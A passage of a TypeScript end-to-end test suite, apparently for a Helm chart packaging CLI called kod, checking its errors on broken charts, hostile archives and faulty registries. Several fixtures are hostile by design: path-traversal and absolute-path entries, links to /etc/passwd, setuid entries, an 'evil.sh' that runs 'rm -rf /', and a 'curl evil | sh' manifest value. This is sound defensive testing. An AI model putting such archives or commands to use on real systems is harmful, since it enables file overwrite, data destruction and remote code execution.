import {expect} from 'chai'
import {execa} from 'execa'
import {constants} from 'node:fs'
import {chmod, cp, lstat, mkdir, mkdtemp, open, readdir, readFile, rm, symlink, writeFile} from 'node:fs/promises'
import http from 'node:http'
import type net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import {clearInterval, setInterval} from 'node:timers'
import {gzipSync} from 'node:zlib'
import {createHash, randomBytes} from 'node:crypto'
import * as tar from 'tar'
import YAML from 'yaml'

import {oneLineError} from '../support/assertions.js'
import {startChartServer, startSilentServer, type ChartServer} from '../support/chart-server.js'
import {FIXTURES, kod, type KodResult, TOOLS_BIN} from '../support/kod.js'
import {seedHello} from '../support/hello-image.js'
import {freePort, startRegistry, type TestRegistry} from '../support/registry.js'

/**
 * Issue 8, part 7: the bad-input suite. Malformed, hostile and faulty inputs — broken charts and values,
 * hostile and broken archives, faulty registries, missing or failing tools, unusual paths — each run
 * through the real kod (real helm, skopeo and registries on 127.0.0.1; fault-injecting servers on
 * 127.0.0.1), each asserting:
 *
 *  (a) the exact exit code (README, Exit codes);
 *  (b) exactly one `Error:` line on stderr naming the file or host and saying what to do, no stack trace,
 *      no bare file-system error code;
 *  (c) nothing left behind: the case's working directory, its private TMPDIR, its own inputs and the
 *      shared fixtures list exactly the same entries before and after the run — no .kod-staging-*,
 *      *.partial-*, *.extracting-*, kod-* scratch directory, half-written package or unpack. The one
 *      exception is documented behaviour: populate and deploy given a package file unpack it, verified, into
 *      ./kod-<chart>-<version> before they push, and the next run reuses it; where a case fails after
 *      that (`unpacks`), that directory may remain, but only whole.
 *
 * Every check of a case runs, and a failing case reports them all at once, with kod's command and stderr.
 */

const HELM = path.join(TOOLS_BIN, 'helm')
const HELLO = path.join(FIXTURES, 'charts', 'hello')
const BAD_YAML = 'image:\n  repository: [unclosed\n  tag: "1.0"\n'
/** A bare file-system error code reaching the user (README: "never a bare EISDIR or ENOENT"). */
const RAW_FS_CODE = /\b(EISDIR|EEXIST|ENOENT|ENOTDIR|ENOTEMPTY|EACCES|EPERM|ENXIO|ESPIPE|EINVAL|EROFS)\b/
const SECRET = 's3cret-sentinel-7f3a'
/** Where populate and deploy unpack the good package (hello 0.1.0) beside the user. */
const UNPACKED = 'kod-hello-0.1.0'

const esc = (text: string): string => text.replaceAll(/[.*+?^${}()|[\]\\]/g, '\\$&')
const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex')

// ---------------------------------------------------------------------------------------------------
// Snapshots: what a case leaves behind

/** Every entry below `dir`, recursively, relative to it: directories end in `/`, links in `@`, FIFOs in `|`. */
async function snapshot(dir: string): Promise<string[]> {
  const found: string[] = []
  const walk = async (relative: string): Promise<void> => {
    let names: string[]
    try {
      names = await readdir(path.join(dir, relative))
    } catch {
      return
    }
    for (const name of names) {
      const entry = path.join(relative, name)
      const info = await lstat(path.join(dir, entry)).catch(() => undefined)
      if (!info) continue
      if (info.isDirectory()) {
        found.push(`${entry}/`)
        await walk(entry)
      } else found.push(`${entry}${info.isSymbolicLink() ? '@' : info.isFIFO() ? '|' : ''}`)
    }
  }
  await walk('')
  return found.sort()
}

function difference(before: string[], after: string[]): {added: string[]; removed: string[]} {
  return {added: after.filter((entry) => !before.includes(entry)), removed: before.filter((entry) => !after.includes(entry))}
}

// ---------------------------------------------------------------------------------------------------
// Archives, entry by entry (what tar itself would refuse to write)

interface Entry {
  path: string
  type: string
  mode: number
  body: Buffer
  linkpath?: string
}

const file = (entryPath: string, body: Buffer | string, mode = 0o644): Entry => ({path: entryPath, type: 'File', mode, body: Buffer.from(body)})

/** The entries as a ustar archive (a pax header first when a path is long). */
function archive(entries: Entry[]): Buffer {
  const blocks: Buffer[] = []
  const pad = (size: number): Buffer => Buffer.alloc((512 - (size % 512)) % 512)
  for (const entry of entries) {
    const fields = {path: entry.path, mode: entry.mode, size: entry.type === 'File' ? entry.body.length : 0, type: entry.type, mtime: new Date(0), ...(entry.linkpath ? {linkpath: entry.linkpath} : {})}
    if (Buffer.byteLength(entry.path) > 99 || Buffer.byteLength(entry.linkpath ?? '') > 99) {
      blocks.push(new tar.Pax({path: entry.path, ...(entry.linkpath ? {linkpath: entry.linkpath} : {}), mtime: new Date(0)}).encode())
    }
    const block = Buffer.alloc(512)
    new tar.Header(fields as ConstructorParameters<typeof tar.Header>[0]).encode(block, 0)
    blocks.push(block)
    if (entry.type === 'File') blocks.push(entry.body, pad(entry.body.length))
  }
  blocks.push(Buffer.alloc(1024))
  return Buffer.concat(blocks)
}

async function readEntries(archiveFile: string): Promise<Entry[]> {
  const entries: Entry[] = []
  await tar.list({
    file: archiveFile,
    onReadEntry(entry) {
      const chunks: Buffer[] = []
      entry.on('data', (chunk: Buffer) => chunks.push(chunk))
      entry.on('end', () => entries.push({path: entry.path, type: entry.type, mode: entry.mode ?? 0o644, body: Buffer.concat(chunks)}))
    },
  })
  return entries
}

/** The entries with SHA256SUMS rewritten to match them (as whoever tampers with a package would). */
function resummed(entries: Entry[]): Entry[] {
  const sums = entries
    .filter((entry) => entry.type === 'File' && entry.path !== 'SHA256SUMS')
    .map((entry) => `${sha256(entry.body)}  ${entry.path}\n`)
    .join('')
  return entries.map((entry) => (entry.path === 'SHA256SUMS' ? file('SHA256SUMS', sums) : entry))
}

// ---------------------------------------------------------------------------------------------------
// Fault-injecting servers on 127.0.0.1

/** An HTTP server on 127.0.0.1 answering every request with `status`. */
async function startStatusServer(status: number): Promise<{host: string; url: string; stop(): Promise<void>}> {
  const server = http.createServer((request, response) => {
    request.resume()
    response.writeHead(status, {'content-type': 'text/plain'}).end(`kod test server: always ${status}\n`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const {port} = server.address() as net.AddressInfo
  return {
    host: `127.0.0.1:${port}`,
    url: `http://127.0.0.1:${port}`,
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

// ---------------------------------------------------------------------------------------------------
// Cases

/** A case's own directories: where kod runs, its TMPDIR, and its inputs. All of `root` is snapshotted. */
interface Dirs {
  root: string
  cwd: string
  tmp: string
  in: string
}

interface Case {
  name: string
  /** Builds the case's inputs (under `d.in`, or `d.cwd` when the case is about what is in the way there). */
  setup?: (d: Dirs) => Promise<void>
  args: (d: Dirs) => string[]
  exit: number
  /** The one `Error:` line: it names the file or host and says what to do. */
  error: (d: Dirs) => RegExp
  env?: (d: Dirs) => Record<string, string>
  input?: string
  /** More checks on the result (e.g. a secret is not echoed, a Try: line says how to log in). */
  also?: (result: KodResult, d: Dirs) => void | Promise<void>
  /** kod must end within this many ms; past it, `unblock` is called every second until it does. */
  within?: number
  unblock?: (d: Dirs) => Promise<void>
  /**
   * populate and deploy given a package file unpack it into ./kod-<chart>-<version> before they push (README:
   * reused by the next run): that directory may remain, but only whole — every file of the package, plus the
   * kod-values file deploy writes and the kod-info/ layout of the package's metadata populate writes — never half-extracted.
   */
  unpacks?: boolean
}

describe('bad inputs: exit code, one line naming the file or host, nothing left behind (e2e)', function () {
  this.timeout(120_000)

  let work: string
  let home: string
  let shared: string
  let upstream: TestRegistry
  let airgap: TestRegistry
  let locked: TestRegistry
  let s404: Awaited<ReturnType<typeof startStatusServer>>
  let s500: Awaited<ReturnType<typeof startStatusServer>>
  let silent: {host: string; stop(): Promise<void>}
  let lockedCharts: ChartServer
  let closed: string
  /** A good package of hello 0.1.0 (one image), its entries, and an unpacked copy. */
  let good: string
  let goodEntries: Entry[]
  let goodDir: string
  /** What an unpack of the good package holds (snapshot entries). */
  let goodListing: string[]
  let chartTgz: string
  let valuesFile: string
  let missingTagValues: string
  let values500: string
  let valuesClosed: string
  let pubKey: string
  let shims: Record<'helmTemplateFails' | 'helmKilled' | 'helmUpgradeFails' | 'helmPushFails' | 'skopeoFails' | 'skopeoKilled', string>
  let started = 0

  /** The package's entries with one changed. */
  const changed = (entryPath: string, change: (entry: Entry) => Entry): Entry[] => goodEntries.map((entry) => (entry.path === entryPath ? change(entry) : entry))
  const manifestEdited = (edit: (manifest: Record<string, unknown>) => void): Entry[] =>
    resummed(
      changed('kod-package.yaml', (entry) => {
        const manifest = YAML.parse(entry.body.toString()) as Record<string, unknown>
        edit(manifest)
        return file('kod-package.yaml', YAML.stringify(manifest))
      }),
    )
  const blobs = (): Entry[] => goodEntries.filter((entry) => entry.path.startsWith('images/blobs/sha256/')).sort((a, b) => b.body.length - a.body.length)
  /** Writes a hostile or broken package into the case's inputs, returning its path. */
  const hostile = async (d: Dirs, content: Entry[] | Buffer, name = 'kod-hello-0.1.0.kodpkg'): Promise<string> => {
    const target = path.join(d.in, name)
    await writeFile(target, Buffer.isBuffer(content) ? content : archive(content))
    return target
  }
  const pkgIn = (d: Dirs, name = 'kod-hello-0.1.0.kodpkg'): string => path.join(d.in, name)
  /** A copy of hello, changed, at d.in/chart. */
  const chartIn = (d: Dirs): string => path.join(d.in, 'chart')
  const brokenChart = (change: (dir: string) => Promise<void>) => async (d: Dirs) => {
    await cp(HELLO, chartIn(d), {recursive: true})
    await change(chartIn(d))
  }
  const target = (host: string): string[] => ['-r', host, '--plain-http']
  const deployArgs = (pkg: string, host: string): string[] => ['deploy', '-c', pkg, ...target(host), '-n', 'ns', '--dry-run']
  const pathWith = (dir: string): Record<string, string> => ({PATH: [dir, TOOLS_BIN, process.env.PATH ?? ''].join(path.delimiter)})
  /** The hostile package written by `entries` for the case, then `args` run on it. */
  const onHostile = (entries: () => Entry[] | Buffer, args: (pkg: string, d: Dirs) => string[]) => ({
    setup: async (d: Dirs) => void (await hostile(d, entries())),
    args: (d: Dirs) => args(pkgIn(d), d),
  })
  const notAPackage = (what: string) => (d: Dirs) => new RegExp(`^Error: ${esc(pkgIn(d))} is not a kod package: ${what}`)
  const badPackage = (what: string) => (d: Dirs) => new RegExp(`^Error: .*${esc(pkgIn(d))}.*${what}`)

  // ---- 1. broken charts and values -----------------------------------------------------------------
  const chartsAndValues: Case[] = [
    {
      name: 'package: a chart directory without Chart.yaml',
      setup: brokenChart((dir) => rm(path.join(dir, 'Chart.yaml'))),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(chartIn(d))}.*(Chart\\.yaml|not a (Helm )?chart)`),
    },
    {
      name: 'package: Chart.yaml that is not valid YAML',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'Chart.yaml'), 'apiVersion: v2\nname: hello\nversion: [0.1.0\n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(chartIn(d), 'Chart.yaml'))}.*not valid YAML.*line \\d+`),
    },
    {
      name: 'package: Chart.yaml without a name',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'Chart.yaml'), 'apiVersion: v2\nversion: 0.1.0\n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(chartIn(d))}.*\\bname\\b`),
    },
    {
      name: 'package: Chart.yaml without a version',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'Chart.yaml'), 'apiVersion: v2\nname: hello\n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(chartIn(d))}.*\\bversion\\b`),
    },
    {
      name: 'package: Chart.yaml with a version that is not SemVer',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'Chart.yaml'), 'apiVersion: v2\nname: hello\nversion: not-a-version\n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(chartIn(d))}.*not-a-version`),
    },
    {
      name: 'package: a template with a syntax error',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'templates', 'broken.yaml'), 'kind: ConfigMap\ndata: {{ .Values.image.repository \n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 4,
      error: () => /^Error: .*helm template failed: .*templates\/broken\.yaml/,
    },
    {
      name: 'package: a template calling an undefined function',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'templates', 'broken.yaml'), 'kind: ConfigMap\ndata: {{ nosuchfunction 1 }}\n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 4,
      error: () => /^Error: .*helm template failed: .*templates\/broken\.yaml.*nosuchfunction/,
    },
    {
      name: 'package: a required value that is missing',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'templates', 'secret.yaml'), 'kind: Secret\nstringData:\n  token: {{ required "token is required: set it with -f or --set token=..." .Values.token }}\n')),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 4,
      // helm's own "Error: " is not said twice.
      error: () => /^Error: .*helm template failed: (?!Error: ).*token is required: set it with -f or --set token=/,
    },
    {
      name: 'images: a chart that calls fail',
      setup: brokenChart((dir) => writeFile(path.join(dir, 'templates', 'guard.yaml'), '{{ fail "this chart needs ingress.enabled=true" }}\n')),
      args: (d) => ['images', '-c', chartIn(d)],
      exit: 4,
      error: () => /^Error: .*helm template failed: .*this chart needs ingress\.enabled=true/,
    },
    {
      name: 'package: values that break the chart\'s values.schema.json',
      setup: brokenChart(async (dir) => {
        await writeFile(path.join(dir, 'values.schema.json'), JSON.stringify({type: 'object', properties: {replicas: {type: 'integer'}}}))
        await writeFile(path.join(dir, 'replicas.yaml'), 'replicas: many\n')
      }),
      args: (d) => ['package', '-c', chartIn(d), '-f', path.join(chartIn(d), 'replicas.yaml')],
      exit: 4,
      error: () => /^Error: .*helm template failed: .*replicas/,
    },
    {
      name: "package: a chart whose values.yaml is not valid YAML",
      setup: brokenChart((dir) => writeFile(path.join(dir, 'values.yaml'), BAD_YAML)),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(chartIn(d), 'values.yaml'))}.*not valid YAML.*line 3, column \\d+`),
    },
    {
      name: 'package: a dependency that is declared but missing, from a repository answering 404',
      setup: brokenChart((dir) =>
        writeFile(path.join(dir, 'Chart.yaml'), `apiVersion: v2\nname: hello\nversion: 0.1.0\ndependencies:\n  - name: db\n    version: 1.0.0\n    repository: ${s404.url}/charts\n`),
      ),
      args: (d) => ['package', '-c', chartIn(d)],
      exit: 4,
      error: () => new RegExp(`^Error: .*\\bdb\\b.*${esc(s404.host)}`),
    },
    {
      name: 'package: -f naming a file that does not exist',
      args: (d) => ['package', '-c', HELLO, '-f', path.join(d.in, 'missing.yaml')],
      exit: 2,
      error: (d) => new RegExp(`^Error: values file not found: ${esc(path.join(d.in, 'missing.yaml'))}`),
    },
    {
      name: 'package: -f naming a directory',
      args: (d) => ['package', '-c', HELLO, '-f', d.in],
      exit: 2,
      error: (d) => new RegExp(`^Error: values file ${esc(d.in)} is a directory: give -f a YAML file`),
    },
    {
      name: 'deploy: -f that is not valid YAML',
      setup: (d) => writeFile(path.join(d.in, 'bad.yaml'), BAD_YAML),
      args: (d) => [...deployArgs(good, airgap.host), '-f', path.join(d.in, 'bad.yaml')],
      exit: 2,
      error: (d) => new RegExp(`^Error: values file ${esc(path.join(d.in, 'bad.yaml'))} is not valid YAML: .*line 3, column \\d+`),
    },
    {
      name: 'package: --set without a value',
      args: () => ['package', '-c', HELLO, '--set', 'image.tag'],
      exit: 2,
      error: () => /^Error: .*--set.*image\.tag/,
    },
    {
      name: 'images: --prefix without --relocate-to',
      args: () => ['images', '-c', HELLO, '--prefix', 'mirror'],
      exit: 2,
      error: () => /^Error: --prefix applies to --relocate-to REGISTRY: give both, or leave --prefix out$/,
    },
    {
      name: 'images: --set with no key (helm would set nothing)',
      args: () => ['images', '-c', HELLO, '--set', 'image.tag=1,=x'],
      exit: 2,
      error: () => /^Error: --set "image\.tag=1,=x": no key before "="; use --set key=value/,
    },
    {
      name: 'images: --set with a list index that is no number',
      args: () => ['images', '-c', HELLO, '--set', 'a[x]=1'],
      exit: 2,
      error: () => /^Error: .*--set.*a\[x\]=1/,
    },
    {
      name: 'package: a .tgz that is not gzip',
      setup: (d) => writeFile(path.join(d.in, 'hello-0.1.0.tgz'), 'this is not a chart archive\n'.repeat(20)),
      args: (d) => ['package', '-c', path.join(d.in, 'hello-0.1.0.tgz')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'hello-0.1.0.tgz'))}.*(not a (gzip|chart)|gzip)`),
    },
    {
      name: 'package: a .tgz that is gzip but not a tar',
      setup: (d) => writeFile(path.join(d.in, 'hello-0.1.0.tgz'), gzipSync('just some text, no tar inside\n'.repeat(40))),
      args: (d) => ['package', '-c', path.join(d.in, 'hello-0.1.0.tgz')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'hello-0.1.0.tgz'))}.*(not a (tar|chart)|no Chart\\.yaml)`),
    },
    {
      name: 'package: an empty .tgz',
      setup: (d) => writeFile(path.join(d.in, 'hello-0.1.0.tgz'), ''),
      args: (d) => ['package', '-c', path.join(d.in, 'hello-0.1.0.tgz')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'hello-0.1.0.tgz'))}.*empty`),
    },
    {
      name: 'package: a truncated chart .tgz',
      setup: async (d) => {
        const bytes = await readFile(chartTgz)
        await writeFile(path.join(d.in, 'hello-0.1.0.tgz'), bytes.subarray(0, Math.floor(bytes.length / 2)))
      },
      args: (d) => ['package', '-c', path.join(d.in, 'hello-0.1.0.tgz')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'hello-0.1.0.tgz'))}.*(truncated|damaged|corrupt|unexpected end)`),
    },
    {
      name: 'package: a directory that is not a chart',
      setup: (d) => writeFile(path.join(d.in, 'README.txt'), 'no chart here\n'),
      args: (d) => ['package', '-c', d.in],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(d.in)}.*(not a (Helm )?chart|no Chart\\.yaml|neither)`),
    },
    {
      name: 'package: --version with a local chart directory',
      args: () => ['package', '-c', HELLO, '--version', '9.9.9'],
      exit: 2,
      error: () => new RegExp(`^Error: --version applies to charts from a repository or oci://; .*${esc(HELLO)} is a local chart`),
    },
    {
      name: 'package: an unknown flag',
      args: () => ['package', '-c', HELLO, '--frobnicate'],
      exit: 2,
      error: () => /^Error: Nonexistent flag: --frobnicate/,
    },
    {
      name: 'package: no -c',
      args: () => ['package'],
      exit: 2,
      error: () => /^Error: Missing required flag chart/,
    },
    {
      name: 'populate: --plain-http with --insecure-skip-tls-verify',
      args: () => ['populate', '-c', good, '-r', airgap.host, '--plain-http', '--insecure-skip-tls-verify'],
      exit: 2,
      error: () => /^Error: .*--(plain-http|insecure-skip-tls-verify)=true cannot also be provided when using --(insecure-skip-tls-verify|plain-http)/,
    },
    {
      name: 'package: --kube-version that is no version',
      args: () => ['package', '-c', HELLO, '--kube-version', 'yesterday'],
      exit: 2,
      error: () => /^Error: .*--kube-version.*yesterday/,
    },
    {
      name: 'package: --username without --password-stdin',
      args: () => ['package', '-c', HELLO, '--username', 'ci'],
      exit: 2,
      error: () => /^Error: .*--username.*--password-stdin/,
    },
  ]

  // ---- 2. hostile and broken archives --------------------------------------------------------------
  const archives: Case[] = [
    {
      name: 'unpack: a truncated package',
      setup: async (d) => void (await hostile(d, (await readFile(good)).subarray(0, Math.floor((await readFile(good)).length * 0.6)))),
      args: (d) => ['unpack', '-c', pkgIn(d)],
      exit: 5,
      error: badPackage('(truncated|incomplete|ends early|damaged)'),
    },
    {
      name: 'deploy: a truncated package',
      setup: async (d) => void (await hostile(d, (await readFile(good)).subarray(0, Math.floor((await readFile(good)).length * 0.6)))),
      args: (d) => deployArgs(pkgIn(d), airgap.host),
      exit: 5,
      error: badPackage('(truncated|incomplete|ends early|damaged)'),
    },
    {
      name: 'inspect: a package cut short inside its manifest',
      setup: async (d) => void (await hostile(d, (await readFile(good)).subarray(0, 700))),
      args: (d) => ['inspect', '-c', pkgIn(d)],
      exit: 5,
      error: badPackage('is damaged or truncated \\(it ends inside kod-package\\.yaml\\); get a fresh copy'),
    },
    {
      name: 'deploy: a package cut short after its head, its whole copy unpacked beside it already',
      setup: async (d) => {
        await hostile(d, (await readFile(good)).subarray(0, Math.floor((await readFile(good)).length * 0.6)))
        const unpacked = await kod(['unpack', '-c', good], {cwd: d.cwd})
        expect(unpacked.exitCode, unpacked.stderr).to.equal(0)
      },
      args: (d) => deployArgs(pkgIn(d), airgap.host),
      exit: 5,
      error: badPackage('is damaged or truncated \\(it does not end as a whole tar archive does\\)'),
    },
    {
      name: 'inspect: random bytes',
      ...onHostile(() => randomBytes(8192), (pkg) => ['inspect', '-c', pkg]),
      exit: 2,
      error: notAPackage('it is not a tar archive'),
    },
    {
      name: 'populate: random bytes',
      ...onHostile(() => randomBytes(8192), (pkg) => ['populate', '-c', pkg, ...target(airgap.host)]),
      exit: 2,
      error: notAPackage('it is not a tar archive'),
    },
    {
      name: 'unpack: a plain tar without kod-package.yaml',
      ...onHostile(() => archive([file('README.md', '# just a tarball\n'), file('src/main.c', 'int main(){}\n')]), (pkg) => ['unpack', '-c', pkg]),
      exit: 2,
      error: notAPackage('.*(kod-package\\.yaml|tar archive)'),
    },
    {
      name: 'unpack: a "../" entry placed first',
      ...onHostile(() => [file('../evil', 'x'), ...goodEntries], (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('entry \\.\\./evil climbs out of the package'),
    },
    {
      name: 'deploy: a "../../" entry placed first',
      ...onHostile(() => [file('../../evil', 'x'), ...goodEntries], (pkg) => deployArgs(pkg, airgap.host)),
      exit: 5,
      error: badPackage('entry \\.\\./\\.\\./evil climbs out of the package'),
    },
    {
      name: 'populate: a "charts/../../" entry in the middle',
      ...onHostile(() => [...goodEntries.slice(0, 2), file('charts/../../evil', 'x'), ...goodEntries.slice(2)], (pkg) => ['populate', '-c', pkg, ...target(airgap.host)]),
      exit: 5,
      error: badPackage('charts/\\.\\./\\.\\./evil'),
    },
    {
      name: 'populate: an absolute path entry',
      setup: async (d) => void (await hostile(d, [...goodEntries, file(path.join(d.root, 'abs-evil'), 'x')])),
      args: (d) => ['populate', '-c', pkgIn(d), ...target(airgap.host)],
      exit: 5,
      error: (d) => new RegExp(`^Error: .*${esc(pkgIn(d))}.*${esc(path.join(d.root, 'abs-evil'))} is an absolute path`),
    },
    {
      name: 'inspect: an absolute path entry placed first',
      setup: async (d) => void (await hostile(d, [file(path.join(d.root, 'abs-evil'), 'x'), ...goodEntries])),
      args: (d) => ['inspect', '-c', pkgIn(d)],
      exit: 5,
      error: (d) => new RegExp(`^Error: .*${esc(pkgIn(d))}.*is an absolute path`),
    },
    {
      name: 'unpack: a symbolic link out of the package, and a file written through it',
      setup: async (d) => void (await hostile(d, [...goodEntries, {path: 'charts/link', type: 'SymbolicLink', mode: 0o777, body: Buffer.alloc(0), linkpath: d.root}, file('charts/link/pwned', 'x')])),
      args: (d) => ['unpack', '-c', pkgIn(d)],
      exit: 5,
      error: badPackage('charts/link is a symbolic link'),
    },
    {
      name: 'deploy: a symbolic link to /etc/passwd placed first',
      ...onHostile(() => [{path: 'kod-package.yaml', type: 'SymbolicLink', mode: 0o777, body: Buffer.alloc(0), linkpath: '/etc/passwd'}, ...goodEntries.slice(1)], (pkg) => deployArgs(pkg, airgap.host)),
      exit: 5,
      error: badPackage('kod-package\\.yaml is a symbolic link'),
    },
    {
      name: 'populate: a hard link out of the package',
      ...onHostile(() => [...goodEntries, {path: 'charts/hard', type: 'Link', mode: 0o644, body: Buffer.alloc(0), linkpath: '../../../../../../etc/passwd'}], (pkg) => ['populate', '-c', pkg, ...target(airgap.host)]),
      exit: 5,
      error: badPackage('charts/hard is a hard link'),
    },
    {
      name: 'unpack: a FIFO entry',
      ...onHostile(() => [...goodEntries, {path: 'images/fifo', type: 'FIFO', mode: 0o644, body: Buffer.alloc(0)}], (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('images/fifo is a FIFO'),
    },
    {
      name: 'unpack: an entry with the setuid bit',
      ...onHostile(() => changed('charts/hello-0.1.0.tgz', (entry) => ({...entry, mode: 0o4755})), (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('charts/hello-0\\.1\\.0\\.tgz has the setuid bit set'),
    },
    {
      name: 'deploy: a directory entry with the setgid bit',
      ...onHostile(() => [goodEntries[0], {path: 'charts/', type: 'Directory', mode: 0o2755, body: Buffer.alloc(0)}, ...goodEntries.slice(1)], (pkg) => deployArgs(pkg, airgap.host)),
      exit: 5,
      error: badPackage('charts has the setgid bit set'),
    },
    {
      name: 'deploy: an entry SHA256SUMS does not list (evil.sh)',
      ...onHostile(() => [...goodEntries, file('evil.sh', '#!/bin/sh\nrm -rf /\n', 0o755)], (pkg) => deployArgs(pkg, airgap.host)),
      exit: 5,
      error: badPackage('evil\\.sh is not listed in SHA256SUMS'),
    },
    {
      name: 'inspect: an entry SHA256SUMS does not list',
      ...onHostile(() => [...goodEntries, file('values/02-extra.yaml', 'evil: true\n')], (pkg) => ['inspect', '-c', pkg]),
      exit: 5,
      error: badPackage('values/02-extra\\.yaml is not listed in SHA256SUMS'),
    },
    {
      name: 'populate: a tampered blob, with SHA256SUMS rewritten to match',
      ...onHostile(() => resummed(changed(blobs()[0].path, (entry) => ({...entry, body: Buffer.from('tampered layer')}))), (pkg) => ['populate', '-c', pkg, ...target(airgap.host)]),
      exit: 5,
      error: (d) => new RegExp(`^Error: .*${esc(pkgIn(d))}.*${esc(blobs()[0].path)} does not hash to its name`),
    },
    {
      name: 'inspect: a chart whose checksum does not match',
      ...onHostile(
        () =>
          changed('charts/hello-0.1.0.tgz', (entry) => {
            const body = Buffer.from(entry.body)
            body[body.length - 1] ^= 0xff
            return {...entry, body}
          }),
        (pkg) => ['inspect', '-c', pkg],
      ),
      exit: 5,
      error: badPackage('checksum mismatch for charts/hello-0\\.1\\.0\\.tgz'),
    },
    {
      name: 'unpack: SHA256SUMS missing',
      ...onHostile(() => goodEntries.filter((entry) => entry.path !== 'SHA256SUMS'), (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('SHA256SUMS'),
    },
    {
      name: 'inspect: kod-package.yaml that is not valid YAML',
      ...onHostile(() => resummed(changed('kod-package.yaml', () => file('kod-package.yaml', 'formatVersion: 3\nname: [hello\n'))), (pkg) => ['inspect', '-c', pkg]),
      exit: 5,
      error: badPackage('kod-package\\.yaml is not valid YAML.*line \\d+'),
    },
    {
      name: 'unpack: kod-package.yaml of an unknown formatVersion',
      ...onHostile(() => manifestEdited((manifest) => (manifest.formatVersion = 99)), (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('package format 99 is not supported by this kod.*; use a matching kod version'),
    },
    {
      name: 'populate: kod-package.yaml with a field the schema does not know',
      ...onHostile(() => manifestEdited((manifest) => (manifest.runThis = 'curl evil | sh')), (pkg) => ['populate', '-c', pkg, ...target(airgap.host)]),
      exit: 5,
      error: badPackage('kod-package\\.yaml.*runThis'),
    },
    {
      name: 'inspect: an absurdly deep path',
      ...onHostile(() => [...goodEntries, file(`${Array.from({length: 40}, (_, index) => `d${index}`).join('/')}/f`, 'x')], (pkg) => ['inspect', '-c', pkg]),
      exit: 5,
      error: badPackage('directories deep \\(at most 32\\)'),
    },
    {
      name: 'unpack: a name longer than 255 bytes',
      ...onHostile(() => [...goodEntries, file(`charts/${'n'.repeat(300)}`, 'x')], (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('has a name longer than'),
    },
    {
      name: 'populate: an entry that appears twice',
      ...onHostile(() => [...goodEntries, file('charts/hello-0.1.0.tgz', 'a second chart, not the one summed')], (pkg) => ['populate', '-c', pkg, ...target(airgap.host)]),
      exit: 5,
      error: badPackage('charts/hello-0\\.1\\.0\\.tgz appears twice'),
    },
    {
      name: 'unpack: a gzipped package with a "../" entry first',
      ...onHostile(() => gzipSync(archive([file('../evil', 'x'), ...goodEntries])), (pkg) => ['unpack', '-c', pkg]),
      exit: 5,
      error: badPackage('entry \\.\\./evil climbs out of the package'),
    },
    {
      name: 'inspect: a zip file',
      setup: async (d) => {
        await execa('python3', ['-c', 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], "w"); z.writestr("kod-package.yaml", "formatVersion: 3\\n"); z.close()', pkgIn(d)])
      },
      args: (d) => ['inspect', '-c', pkgIn(d)],
      exit: 2,
      error: notAPackage('it is a zip'),
    },
    {
      name: 'populate: an unpacked directory holding an extra file',
      setup: async (d) => {
        await cp(goodDir, path.join(d.in, 'pkg'), {recursive: true})
        await writeFile(path.join(d.in, 'pkg', 'evil.sh'), '#!/bin/sh\n')
      },
      args: (d) => ['populate', '-c', path.join(d.in, 'pkg'), ...target(airgap.host)],
      exit: 5,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'pkg'))}.*evil\\.sh is not listed in SHA256SUMS`),
    },
    {
      name: 'deploy: an unpacked directory holding a symbolic link',
      setup: async (d) => {
        await cp(goodDir, path.join(d.in, 'pkg'), {recursive: true})
        await symlink('/etc/passwd', path.join(d.in, 'pkg', 'charts', 'link'))
      },
      args: (d) => deployArgs(path.join(d.in, 'pkg'), airgap.host),
      exit: 5,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'pkg'))}.*charts/link is a symbolic link`),
    },
    {
      name: 'inspect --verify-key: an unsigned package',
      args: () => ['inspect', '-c', good, '--verify-key', pubKey],
      exit: 5,
      error: () => new RegExp(`^Error: .*${esc(good)}.*(not signed|no SHA256SUMS\\.sig)`),
    },
  ]

  // ---- 3. faulty registries ------------------------------------------------------------------------
  const loginHint = (result: KodResult): void => {
    expect(result.stderr, 'a 401 says how to log in').to.match(/--registry-username USER --registry-password-stdin|skopeo login/)
  }
  const registries: Case[] = [
    {
      name: 'populate: a target answering 401',
